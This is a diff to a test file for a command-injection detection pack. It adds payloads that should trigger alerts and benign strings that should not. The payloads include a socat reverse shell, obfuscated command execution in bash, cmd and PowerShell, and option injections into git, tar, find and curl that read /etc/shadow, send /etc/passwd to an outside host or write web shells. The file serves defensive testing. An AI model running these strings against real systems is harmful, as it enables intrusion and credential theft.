@@ -247,18 +247,74 @@ describe('command injection pack', () => {
     'x;/usr/b[i]n/wh[o]ami',
     'x|/u?r/?b?n/u?am? -a',
     '127.0.0.1;/s??n/if*fig',
+    // a command's output run as the command: decoded, reversed, rotated
+    'x;$(echo d2hvYW1p|base64 -d)',
+    'x;`echo d2hvYW1p | base64 -d`',
+    'x;$(rev<<<imaohw)',
+    'x;$(xxd -r -p <<< 6964)',
+    'x|"$(printf "\\151\\144")"',
+    'x;eval $(echo aWQ=|base64 -d)',
     // redirections among a command's arguments; socat relays; launchers
     'x;find / -writable -type d 2>/dev/null',
     'x;socat tcp-connect:198.51.100.7:4444 exec:/bin/bash,pty,stderr',
     'x;sudo whoami',
     'x;nohup id',
-    // cmd: for /f running a command
+    // cmd: substrings of variables spelling a command or a space, for /f running a command
+    'x&%COMSPEC:~-7,3% /c dir',
+    'x&c%PUBLIC:~5,1%d /c whoami',
+    'x|%ProgramFiles:~10,1%whoami',
     'x& for /f "tokens=*" %a in (\'hostname\') do curl http://x.example/%a',
+    // PowerShell: call or dot-source of a computed name, .NET and WMI process creation, aliases
+    "x; & (\"{1}{0}\" -f 'ex','i') 'whoami'",
+    "x; .( $pshome[4]+$pshome[30]+'x') 'whoami'",
+    "x; &(Get-Command I*e-Ex*) 'hostname'",
+    "x; $a='who';$b='ami';&($a+$b)",
+    'x; &([char]105+[char]100)',
+    "x; [Diagnostics.Process]::Start('calc')",
+    "x; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
+    "x; ([WMIClass]'Win32_Process').Create('calc')",
+    'x; Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc',
+    "x; sal x iex; x 'whoami'",
+    // options injected into a command the application runs (git, tar, find, rsync, ssh, zip, curl, wget, sendmail)
+    "https://git.example/y.git --upload-pack='touch /tmp/x'",
+    '--receive-pack=sh',
+    '-c core.sshCommand=touch /tmp/x',
+    "--config core.pager='sh -c id'",
+    'ext::sh -c touch% /tmp/pwn',
+    '--checkpoint=1 --checkpoint-action=exec=sh x.sh',
+    '--use-compress-program=sh',
+    'a.txt -execdir id ;',
+    '-exec cat /etc/shadow {} +',
+    '-fprintf /var/www/x.php hello',
+    '-e sh -c id',
+    '-oProxyCommand="sh -c id"',
+    '-T -TT=sh',
+    'x.example/a --output /var/www/html/a.php',
+    '-d @/etc/passwd http://x.example',
+    '-F file=@/etc/passwd http://x.example',
+    '--post-file=/etc/passwd http://x.example',
+    '-e use_askpass=/tmp/x',
+    '-OQueueDirectory=/tmp -X/var/www/html/x.php',
+    '--gpu-launcher="sh -c id"',
   ])('alerts at level 1 on the evasion or injection technique %s', (payload) => {
     expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
   });
 
   it.each([
+    // option-like prose and command lines named in documentation searches
+    'npm install --save-dev typescript',
+    'find -exec explained',
+    '-exec vs xargs',
+    'use -o /tmp/out to write a file',
+    'what does --upload-pack do',
+    'rsync -e ssh src dst',
+    'x -o file.txt',
+    'John -o Smith',
+    'report.csv --output=summary.pdf',
+    '-d @data.json',
+    '-c core.autocrlf=false',
+    '--no-verify',
+    '2021-01-01 - 2021-12-31',
     // variables, braces and globs in text and code
     'a=1&b=2&c=$a',
     'R&D: a=1;b=2',
@@ -268,10 +324,22 @@ describe('command injection pack', () => {
     'glob /*/* pattern',
     'src/**/*.ts',
     'see /usr/lib/*.so for files',
+    // jQuery and JavaScript
+    '$(document).ready(function(){ $(".btn").click(); });',
+    '});$(this).hide();',
+    // batch and PowerShell look-alikes
+    'set d=%date:~-4,4%',
+    'echo %date:~-4,4%',
+    'Tom & (Jerry) show',
+    '[System.Diagnostics.Process] class docs',
     'x; then what',
     'please start the engine; start now',
   ])('leaves %s alone at level 1', (value) => {
     expect(score(commandInjectionPack, value)).toBeLessThan(5);
+  });
+
+  it('reads a cmd substring on the value as delivered, where full decoding would take %12 for a byte', () => {
+    expect(idsOf(commandInjectionPack, '&ping%CommonProgramFiles:~10,-18%127.0.0.1')).toContain(400118);
   });
 
   it.each([
